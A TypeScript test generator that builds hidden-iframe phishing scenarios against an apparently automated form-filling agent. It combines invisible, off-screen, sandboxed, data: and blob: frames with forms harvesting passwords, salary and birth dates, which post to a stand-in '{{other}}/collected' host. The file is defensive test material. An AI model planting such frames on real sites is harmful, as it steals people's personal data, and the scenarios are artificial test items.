import type { PageAttack, Role, Stage } from '../attack';
import { namesOf, pairs } from '../pairs';
import type { Evidence } from '../stage/evidence';
import { bytesIn, bytesLeftIn, bytesReceived, frozenIn } from '../stage/judging';
import { applicationPage, contactFields, field, hearFrames, postingPage, strangerScript } from './markup';

/** How the frame lies in the page. */
const placements = {
  advert: 'width="300" height="250"',
  large: 'width="900" height="700"',
  pixel: 'width="1" height="1" style="border:0"',
  'off-screen': 'width="600" height="500" style="position:absolute;left:-9999px"',
  'not-displayed': 'style="display:none"',
  transparent: 'width="600" height="500" style="opacity:0"',
  covered: 'width="600" height="500" style="position:absolute;top:0;left:0;z-index:-1"',
  clipped: 'width="600" height="500" style="position:absolute;clip-path:inset(50%)"',
} as const;

/** What it is loaded from. `own`: the site itself, a part of it that shows user content, which nobody sees. */
const sources = ['other', 'port', 'sub', 'srcdoc', 'data', 'blob', 'sandboxed', 'nested', 'redirected'] as const;
type Source = (typeof sources)[number];

/** What it asks for. */
const asked = {
  contact: `<h2>Contact us</h2>${contactFields}`,
  newsletter: `<h2>Never miss a job</h2>${field('Your e-mail address', 'subscriber', 'type="email"')}`,
  'log-in': `<h2>Sign in</h2>${field('E-mail', 'login', 'type="email"')}${field('Password', 'password', 'type="password"')}`,
  sensitive: `<h2>Quick match</h2>${field('Full name', 'fullname')}${field('Expected salary', 'salary')}
    ${field('Date of birth', 'birthdate', 'type="date"')}${field('Are you legally authorized to work in the UK?', 'permit')}`,
  application: `<h2>Apply for this job</h2>${contactFields}${field('Resume/CV', 'cv', 'type="file"')}<button>Submit application</button>`,
} as const;

/** When it shows its form: at once, a while later, or once something was typed into the page. */
const moments = ['at-once', 'late', 'after-typing'] as const;
const surroundings = ['application', 'posting'] as const;

const spaces = pairs({
  placement: namesOf(placements),
  source: sources,
  asks: namesOf(asked),
  moment: moments,
  around: surroundings,
});
type Space = (typeof spaces)[number];

/** Sent to the page as text. */
const placeFrame = `(moment, load) => {
  const frame = document.querySelector('#stranger');
  let isLoaded = false;
  const once = () => { if (!isLoaded) { isLoaded = true; load(frame); } };
  if (moment === 'at-once') once();
  else if (moment === 'late') setTimeout(once, 600);
  else { addEventListener('input', once, true); setTimeout(once, 1500); }
}`;

/** Frames of strangers, which get nothing, however they lie there, whatever they ask and whenever they come. */
export const strangerFrames: PageAttack[] = spaces.map((space) => ({
  id: `stranger-frame/${space.placement}/${space.source}/${space.asks}/${space.moment}/in-${space.around}`,
  class: 'stranger-frame',
  goal: `what the person says of themself goes into a ${space.placement} frame that is loaded from ${space.source}`,
  needsBrowser: true,
  stage: stageOf(space),
  judge,
}));

function judge(evidence: Evidence) {
  const strangers = evidence.frames.filter(({ notes }) => notes.some(({ kind }) => kind === 'stranger'));
  const seen = evidence.frames.flatMap(({ notes }) =>
    notes.flatMap(({ kind, detail }) => (kind === 'saw' ? [detail] : [])),
  );
  return {
    bytesElsewhere: Math.max(bytesReceived(evidence, ['other', 'port', 'sub']), bytesLeftIn(strangers), bytesIn(seen)),
    submits: evidence.received.slice(0, evidence.beforeUser).filter(({ path }) => path === '/applications').length,
    frozen: frozenIn(evidence),
  };
}

function stageOf({ placement, source, asks, moment, around }: Space): Stage {
  const stranger = `${strangerScript}<form method="post" action="{{other}}/collected">${asked[asks]}</form>`;
  const frame = `<iframe id="stranger" title="Partner" ${placements[placement]}></iframe>`;
  const page = around === 'application' ? applicationPage() : postingPage();
  const from: Role = source === 'port' || source === 'sub' ? source : 'other';
  return {
    run: { kind: 'fill' },
    settleMs: moment === 'at-once' ? 300 : 700,
    pages: {
      site: {
        '/': `${page}${frame}${hearFrames}<script>(${placeFrame})(${JSON.stringify(moment)}, (frame) => { ${loading(source, stranger)} })</script>`,
        '/around': `<p>From our partner</p><iframe src="{{other}}/frame" width="100%" height="450" title="Partner"></iframe>`,
      },
      [from]: { '/frame': stranger },
    },
    at: ({ path }, origins) =>
      path === '/to-partner' ? { status: 302, headers: { location: `${origins.other}/frame` } } : null,
  };
}

/** Script that shows the stranger's form in the element `frame`. */
function loading(source: Source, stranger: string): string {
  const text = JSON.stringify(stranger).replaceAll('</script', '<\\/script');
  switch (source) {
    case 'srcdoc':
      return `frame.sandbox = 'allow-scripts allow-forms'; frame.srcdoc = ${text};`;
    case 'data':
      return `frame.src = 'data:text/html;charset=utf-8,' + encodeURIComponent(${text});`;
    case 'blob':
      return `frame.sandbox = 'allow-scripts allow-forms'; frame.src = URL.createObjectURL(new Blob([${text}], { type: 'text/html' }));`;
    case 'sandboxed':
      return `frame.sandbox = 'allow-scripts allow-forms'; frame.src = '{{other}}/frame';`;
    case 'nested':
      return `frame.src = '/around';`;
    case 'redirected':
      return `frame.src = '/to-partner';`;
    default:
      return `frame.src = '{{${source}}}/frame';`;
  }
}
